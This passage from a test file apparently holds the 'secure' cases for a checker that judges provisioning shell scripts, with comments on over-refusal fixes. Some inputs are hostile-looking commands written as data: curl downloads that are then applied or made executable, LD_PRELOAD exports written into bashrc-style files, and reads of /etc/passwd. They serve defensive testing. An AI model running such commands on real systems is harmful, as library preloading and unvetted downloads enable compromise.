            "curl -fsSL -o /tmp/fix.patch https://downloads.example.com/fix.patch",
            "mkdir -p /opt/src && cd /opt/src && git apply /tmp/fix.patch",
        ]),
    ),
    devNodeCase(
        "SS1 sed -n '/LANG/w /tmp/lang.txt' /etc/environment (w to a scratch file)",
        devNodeScript(n("ss1"), ["sed -n '/LANG/w /tmp/lang.txt' /etc/environment"]),
    ),
    devNodeCase(
        "SG1 augtool -s heredoc set /etc/environment LANG",
        devNodeScript(n("sg1"), ["augtool -s <<'EOF'", "set /files/etc/environment/LANG C.UTF-8", "save", "EOF"]),
    ),
    devNodeCase(
        "SV1 vim -R -es +'%p' +q of one file",
        devNodeScript(n("sv1"), ["vim -R -es +'%p' +q /etc/ssh/sshd_config"]),
    ),
    // Was a MISS (fixed in round 75): SECURE over-refusal. ed(1): "(.,.)p Prints the addressed lines", "q Quits ed": `,p` then `q` writes nothing. Refused: rootReads.ts RootReads.unknownEditor (ed names /etc/environment; content made unknown, environmentFileOpenings). Fix: readOnlyMode for ed/red/ex with a readable command text of only ranged p/n/l and q/Q (no w, e, r, !, no other command).
    devNodeCase(
        "SV2 ed -s with a literal heredoc that prints and quits",
        devNodeScript(n("sv2"), ["ed -s /etc/environment <<'EOF'", ",p", "q", "EOF"]),
        /./,
    ),
    devNodeCase(
        "SL1 ld.so.conf.d: /usr/lib64/ (trailing slash) and /usr/local/lib with a trailing comment",
        devNodeScript(n("sl1"), [
            "printf '/usr/lib64/\\n/usr/local/lib # ops libs\\n' > /etc/ld.so.conf.d/ops.conf",
            "ldconfig",
        ]),
    ),
    // Was a MISS (fixed in round 75): SECURE over-refusal. glibc elf/ldconfig.c parse_conf_include: a relative include pattern is resolved against dirname() of the file holding it, so `include local-libs.conf` in /etc/ld.so.conf.d/ops.conf is /etc/ld.so.conf.d/local-libs.conf (/usr/local/lib, a system dir). Refused ('adding include /etc/local-libs.conf'): userDataReaders/rootWrites.ts ldSoConfEntries resolves every include against /etc. Fix: resolve against posix.dirname(path) of the file being judged (the insecure twin L3 stays refused: the sibling's own entries are judged).
    devNodeCase(
        "SL2 ld.so.conf.d relative include of a sibling conf.d file holding /usr/local/lib",
        devNodeScript(n("sl2"), [
            "echo /usr/local/lib > /etc/ld.so.conf.d/local-libs.conf",
            "echo 'include local-libs.conf' > /etc/ld.so.conf.d/ops.conf",
            "ldconfig",
        ]),
        /./,
    ),
    devNodeCase(
        "SM1 /usr/local/lib/modprobe.d blacklist line",
        devNodeScript(
            n("sm1"),
            file("/usr/local/lib/modprobe.d/ops.conf", ["blacklist dccp", "install dccp /bin/false"]),
        ),
    ),
    devNodeCase(
        "SX1 setfattr -x security.capability removes a file's capabilities",
        devNodeScript(n("sx1"), ["setfattr -x security.capability /usr/bin/ping || true"]),
    ),
    devNodeCase(
        "SX2 xxd -i and xxd -u -d of judged files (stdout only)",
        devNodeScript(n("sx2"), ["xxd -i /etc/ssh/sshd_config | head", "xxd -u -d /etc/environment | head"]),
    ),
    devNodeCase(
        "SB1 /root/.bashrc.d/prompt.sh sets a literal PS1",
        devNodeScript(n("sb1"), [
            "mkdir -p /root/.bashrc.d",
            "echo \"PS1='[\\\\u@\\\\h \\\\W]\\\\$ '\" > /root/.bashrc.d/prompt.sh",
        ]),
    ),
    // ---- round 76 fixer neighbours (secure) ----
    devNodeCase(
        "SB2 quoted tildes are no homes: '~root'/.bashrc.d/ops.sh is a directory named ~root under /tmp",
        devNodeScript(n("sb2"), [
            SO,
            "cd /tmp && mkdir -p '~root/.bashrc.d' \"~root\"/x",
            "echo 'export LD_PRELOAD=/opt/x.so' > '~root/.bashrc.d/ops.sh'",
            "echo 'export LD_PRELOAD=/opt/x.so' > \"~root\"/.bashrc.d/two.sh",
        ]),
    ),
    devNodeCase(
        "SB3 ~root/.bashrc.d/prompt.sh and ~/.bashrc.d/prompt2.sh set a literal PS1",
        devNodeScript(n("sb3"), [
            "mkdir -p ~root/.bashrc.d",
            "echo \"PS1='[\\\\u@\\\\h \\\\W]\\\\$ '\" > ~root/.bashrc.d/prompt.sh",
            "echo \"PS1='[\\\\u@\\\\h]\\\\$ '\" > ~/.bashrc.d/prompt2.sh",
        ]),
    ),
    devNodeCase(
        "SB4 /root/.bashrc.d made a symlink to /opt/rc whose only file sets a literal PS1",
        devNodeScript(n("sb4"), [
            "mkdir -p /opt/rc",
            "echo \"PS1='[\\\\u@\\\\h \\\\W]\\\\$ '\" > /opt/rc/prompt.sh",
            "ln -sfn /opt/rc /root/.bashrc.d",
        ]),
    ),
    devNodeCase(
        "SB5 ln -sf of an image's own unit and zoneinfo file, and of a downloaded tool into /usr/local/bin",
        devNodeScript(n("sb5"), [
            "ln -sf /usr/share/zoneinfo/UTC /etc/localtime",
            "ln -sf /usr/lib/systemd/system/chronyd.service /etc/systemd/system/timesync.service",
            "curl -fsSL -o /opt/tools/jq-1.7.1 https://downloads.example.com/jq && chmod +x /opt/tools/jq-1.7.1",
            "ln -sf /opt/tools/jq-1.7.1 /usr/local/bin/jq",
        ]),
    ),
    devNodeCase(
        "SF1 cd /etc && stat, wc -l and sha256sum of bare relative judged names",
        devNodeScript(n("sf1"), ["cd /etc && stat environment && wc -l environment && sha256sum ssh/sshd_config"]),
    ),
    devNodeCase(
        "SF2 cd /etc && sponge to a bare relative non-judged name (motd)",
        devNodeScript(n("sf2"), ["dnf install -y moreutils", "cd /etc && echo 'ops node' | sponge motd"]),
    ),
    devNodeCase(
        "SF3 ln -s a judged file to /tmp then only read through the link",
        devNodeScript(n("sf3"), ["ln -sf /etc/environment /tmp/env-link", "cat /tmp/env-link"]),
    ),
    // ---- round 75 fixer neighbours (secure) ----
    devNodeCase(
        "SS2 sed -n --file=/tmp/ops.sed with w to a scratch file",
        devNodeScript(n("ss2"), [
            ...file("/tmp/ops.sed", ["/LANG/w /tmp/lang.txt"]),
            "sed -n --file=/tmp/ops.sed /etc/environment",
        ]),
    ),
    devNodeCase(
        "SA1 awk print > a literal scratch file, comparisons in its pattern",
        devNodeScript(n("sa1"), [
            'awk -F: \'$3 >= 1000 || $1 == "ec2-user" { print $1 > "/tmp/users.txt" }\' /etc/passwd',
        ]),
    ),
    devNodeCase(
        "SA2 awk -f a literal program written first (prints only)",
        devNodeScript(n("sa2"), [
            ...file("/opt/mem.awk", ["/^MemTotal/ { print $2 }"]),
            "awk -f /opt/mem.awk /proc/meminfo",
        ]),
    ),
    devNodeCase(
        "SP4 git apply of a literal patch with a C-quoted UTF-8 name under /opt/src",
        devNodeScript(n("sp4"), [
            "mkdir -p /opt/src && cd /opt/src && git apply <<'EOF'",
            ...PRELOAD_PATCH_NEW('"@app/n\\303\\244me.txt"'),
            "EOF",
        ]),
    ),
    devNodeCase(
        "SV3 ed -s with g/RE/p, n and Q only",
        devNodeScript(n("sv3"), ["ed -s /etc/ssh/sshd_config <<'EOF'", "g/^PermitRootLogin/p", "1n", "Q", "EOF"]),
    ),
    devNodeCase(
        "SL3 /etc/ld.so.conf relative include of ld.so.conf.d/*.conf (the distribution's own line)",
        devNodeScript(n("sl3"), ["echo 'include ld.so.conf.d/*.conf' > /etc/ld.so.conf", "ldconfig"]),
    ),
];

describeNodeCases(
    "red team 75: node (command readers, patches, sed/awk writes, ld.so.conf, modprobe.d, augtool, paths)",
    insecure,
    secure,
);
